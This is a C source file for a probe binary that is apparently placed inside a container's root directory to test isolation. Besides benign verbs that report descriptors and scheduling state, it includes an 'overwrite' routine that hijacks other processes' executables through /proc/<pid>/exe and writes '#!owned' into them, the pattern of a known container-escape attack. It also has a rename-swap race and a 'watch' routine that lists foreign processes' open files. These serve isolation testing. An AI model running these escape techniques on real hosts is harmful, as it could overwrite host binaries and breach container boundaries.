/* What a container's process can tell about itself only by system calls. Linked statically; part of a test's
 * root directory as /bin/probe. */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

struct schedule {
    uint32_t size, policy;
    uint64_t flags;
    int32_t nice;
    uint32_t priority;
    uint64_t runtime, deadline, period;
};

/* call NUMBER ARGUMENT…: numbers, or texts after "s:". Prints the result or the negative errno. */
static int call(int count, char **words) {
    long values[7] = {0};
    for (int i = 0; i < count && i < 7; i++)
        values[i] = strncmp(words[i], "s:", 2) ? (long)strtoull(words[i], NULL, 0) : (long)(words[i] + 2);
    long result = syscall(values[0], values[1], values[2], values[3], values[4], values[5], values[6]);
    printf("%ld\n", result == -1 ? -(long)errno : result);
    return 0;
}

/* fds: every open descriptor of this process with its target. */
static int descriptors(void) {
    for (int fd = 0; fd < 4096; fd++) {
        char name[64], target[4096];
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
        ssize_t length = readlink(name, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = 0;
        printf("%d %s\n", fd, target);
    }
    return 0;
}

static int schedule(void) {
    struct schedule is = {.size = sizeof is};
    if (syscall(SYS_sched_getattr, 0, &is, sizeof is, 0))
        return 1;
    printf("%u %llu %d %u %llu %llu %llu\n", is.policy, (unsigned long long)is.flags, is.nice, is.priority,
           (unsigned long long)is.runtime, (unsigned long long)is.deadline, (unsigned long long)is.period);
    return 0;
}

static int memory_policy(void) {
    unsigned long nodes[128] = {0};
    int mode = -1;
    if (syscall(SYS_get_mempolicy, &mode, nodes, sizeof nodes * 8 - 1, 0, 0))
        return 1;
    printf("%d %lu\n", mode, nodes[0]);
    return 0;
}

static int io_priority(void) {
    long is = syscall(SYS_ioprio_get, 1, 0);
    printf("%ld %ld\n", is >> 13, is & 0x1fff);
    return 0;
}

/* exchange A B: swap two names for ever. */
static int exchange(const char *a, const char *b) {
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2) && errno != ENOENT)
            return 1;
}

/* overwrite: take hold of the executable of every process that appears, write to it as soon as it is free.
 * Prints "held" once an executable was opened, "written" if the host's file was opened for writing. */
static int overwrite(void) {
    int held = 0;
    printf("watching\n"), fflush(stdout);
    for (;;) {
        for (int pid = 2; pid < 4096; pid++) {
            char name[64];
            if (pid == getpid())
                continue;
            snprintf(name, sizeof name, "/proc/%d/exe", pid);
            char target[4096];
            ssize_t length = readlink(name, target, sizeof target - 1);
            target[length < 0 ? 0 : length] = 0;
            if (length <= 0 || strstr(target, "/bin/busybox") || strstr(target, "/bin/probe"))
                continue;
            int fd = open(name, O_PATH | O_CLOEXEC);
            if (fd < 0)
                continue;
            if (!held++)
                printf("held %s\n", target), fflush(stdout);
            snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
            for (int i = 0; i < 3000; i++) {
                int target_fd = open(name, O_WRONLY | O_CLOEXEC);
                if (target_fd >= 0) {
                    printf("written %zd\n", write(target_fd, "#!owned\n", 8)), fflush(stdout);
                    return 0;
                }
                usleep(100);
            }
            close(fd);
        }
    }
}

/* watch: look into every foreign process that appears; prints "seen" with what could be reached. */
static _Noreturn void watch(void) {
    printf("watching\n"), fflush(stdout);
    for (;;)
        for (int pid = 2; pid < 4096; pid++) {
            char name[64], target[4096], file[4096];
            snprintf(name, sizeof name, "/proc/%d/exe", pid);
            ssize_t length = readlink(name, target, sizeof target - 1);
            target[length < 0 ? 0 : length] = 0;
            if (length <= 0 || strstr(target, "/bin/busybox") || strstr(target, "/bin/probe"))
                continue;
            for (int fd = 3; fd < 64; fd++) {
                snprintf(name, sizeof name, "/proc/%d/fd/%d", pid, fd);
                if ((length = readlink(name, file, sizeof file - 1)) <= 0)
                    continue;
                file[length] = 0;
                printf("seen %d %s %d %s\n", pid, target, fd, file), fflush(stdout);
            }
        }
}

int main(int argc, char **argv) {
    const char *verb = argc > 1 ? argv[1] : "";
    if (!strcmp(verb, "call") && argc > 2)
        return call(argc - 2, argv + 2);
    if (!strcmp(verb, "fds"))
        return descriptors();
    if (!strcmp(verb, "schedule"))
        return schedule();
    if (!strcmp(verb, "memory-policy"))
        return memory_policy();
    if (!strcmp(verb, "io-priority"))
        return io_priority();
    if (!strcmp(verb, "exchange") && argc == 4)
        return exchange(argv[2], argv[3]);
    if (!strcmp(verb, "overwrite"))
        return overwrite();
    if (!strcmp(verb, "watch"))
        watch();
    return 2;
}
